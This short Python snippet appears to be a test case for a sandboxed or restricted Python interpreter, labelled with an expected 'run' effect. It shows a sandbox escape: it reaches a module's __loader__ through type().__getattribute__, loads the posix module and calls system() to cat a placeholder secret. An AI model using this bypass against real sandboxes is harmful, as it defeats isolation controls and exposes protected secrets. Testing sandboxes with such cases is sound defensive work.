# A module's __loader__ loads others.
# effect: run
import itertools
type(itertools).__getattribute__(itertools, "__loader__").load_module("posix").system("cat @SECRET@")
